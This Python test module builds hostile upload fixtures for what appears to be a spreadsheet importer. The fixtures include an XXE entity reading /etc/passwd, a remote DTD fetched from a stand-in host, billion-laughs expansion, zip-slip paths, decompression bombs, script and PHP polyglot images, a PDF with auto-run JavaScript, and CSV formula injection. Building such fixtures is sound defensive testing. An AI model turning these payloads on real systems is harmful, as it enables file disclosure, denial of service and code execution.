"""Hostile files: tables that are none, packed bombs, documents that ask for other documents, programs as pictures."""

from __future__ import annotations

import csv
import functools
import io
import zipfile

from tests.hostile.strings import FORMULA, MARK, SCRIPT, filled

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_OFFICE}/%s" Target="%s"/></Relationships>'
)
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_BOOK = (
    f'<?xml version="1.0"?><workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
    '<sheet name="%s" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)
_REMOTE = f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://{MARK}.example.invalid/e.dtd">%e;]>'


def workbook(
    cells: str, before: str = "", sheet: str = "Sheet1", extra: dict[str, bytes] | None = None
) -> bytes:
    """A workbook of one sheet whose XML is written by hand."""
    out = io.BytesIO()
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", _TYPES)
        packed.writestr("_rels/.rels", _RELATIONS % ("officeDocument", "xl/workbook.xml"))
        packed.writestr("xl/workbook.xml", _BOOK % sheet)
        packed.writestr("xl/_rels/workbook.xml.rels", _RELATIONS % ("worksheet", "worksheets/sheet1.xml"))
        body = f'<worksheet xmlns="{_MAIN}"><sheetData>{cells}</sheetData></worksheet>'
        packed.writestr("xl/worksheets/sheet1.xml", head + before + body)
        for name, content in (extra or {}).items():
            packed.writestr(name, content)
    return out.getvalue()


def row(number: int, texts: list[str]) -> str:
    cells = "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in texts)
    return f'<row r="{number}">{cells}</row>'


HEAD = row(1, ["统一社会信用代码", "名称", "地址"])


def _zip(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members:
            packed.writestr(name, content)
    return out.getvalue()


def _table(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8", "replace")


@functools.cache
def contents() -> tuple[tuple[bytes, str], ...]:
    """`(content, ending)` of each file."""
    slip = tuple(
        (name, b"out") for name in (f"../../../../tmp/{MARK}_slip", f"/tmp/{MARK}_slip", f"..\\{MARK}")
    )
    nested = _zip(("a.zip", _zip(("b.zip", _zip(("c", bytes(10_000_000)))))))
    heading = ["统一社会信用代码", "名称", "地址"]
    return (
        (workbook(HEAD + row(2, ["&e;", "&e;", "&e;"]), _ENTITY), ".xlsx"),
        (workbook(HEAD + row(2, ["&a9;", "&a9;", "x"]), _LAUGHS + "]>"), ".xlsx"),
        (workbook(HEAD + row(2, ["x", "y", "z"]), _REMOTE), ".xlsx"),
        (workbook(HEAD, sheet=f"&lt;{MARK}&gt;"), ".xlsx"),
        (workbook(HEAD + row(2, [f"&lt;script&gt;{MARK}&lt;/script&gt;"] * 3)), ".xlsx"),
        (workbook(HEAD + '<row r="2"><c><f>31337*31337</f><v>1</v></c></row>'), ".xlsx"),
        (workbook(HEAD + '<row r="1048577000"><c r="XFD99999999"><v>1</v></c></row>'), ".xlsx"),
        (workbook(HEAD + '<row r="2"><c t="s"><v>999999</v></c><c t="e"><v>#REF!</v></c></row>'), ".xlsx"),
        (workbook(HEAD, extra=dict(slip)), ".xlsx"),
        (workbook(HEAD, extra={"xl/media/bomb": bytes(30_000_000)}), ".xlsx"),
        (workbook(HEAD, extra={"xl/sharedStrings.xml": _LAUGHS.encode() + b"]><x>&a9;</x>"}), ".xlsx"),
        (workbook(HEAD)[:-40], ".xlsx"),
        (_zip(*slip), ".xlsx"),
        (nested, ".xlsx"),
        (_zip(), ".xlsx"),
        (b"PK\x03\x04" + b"\xff" * 200, ".xlsx"),
        (b"PK\x05\x06" + bytes(18), ".xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), ".xls"),
        (f"<html><script>{MARK}</script><table><tr><td>{_ENTITY}&e;</table>".encode(), ".xls"),
        (_table([heading, *([filled(text)] * 3 for text in FORMULA)]), ".csv"),
        (_table([heading, *([filled(text)] * 3 for text in SCRIPT)]), ".csv"),
        (_table([[f"<{MARK}>", f"={MARK}", "{{31337*31337}}"], ["1", "2", "3"]]), ".csv"),
        (_table([heading * 4000, ["x"]]), ".csv"),
        (b'"' + b"a" * 300_000, ".csv"),
        (b"a,b\r\n" * 2 + b"\x00\xff\xfe" * 50, ".csv"),
        ("统一社会信用代码,名称\n".encode("utf-16") + b"\xd8\x00", ".csv"),
        (b"\x81\x30\x81\x30" * 200, ".csv"),
        (b"", ".csv"),
        (
            f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}()'><script>1</script></svg>".encode(),
            ".svg",
        ),
        (b"\x89PNG\r\n\x1a\n" + f"<script>{MARK}</script>".encode() * 9, ".png"),
        (b"\xff\xd8\xff\xe0" + f"<?php {MARK} ?>".encode() * 9, ".jpg"),
        (b"GIF89a" + f"/*{MARK}*/=1".encode(), ".gif"),
        (b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF", ".pdf"),
        (b"MZ" + bytes(200), ".exe"),
        (f"<html><{MARK}></html>".encode(), ".html"),
    )
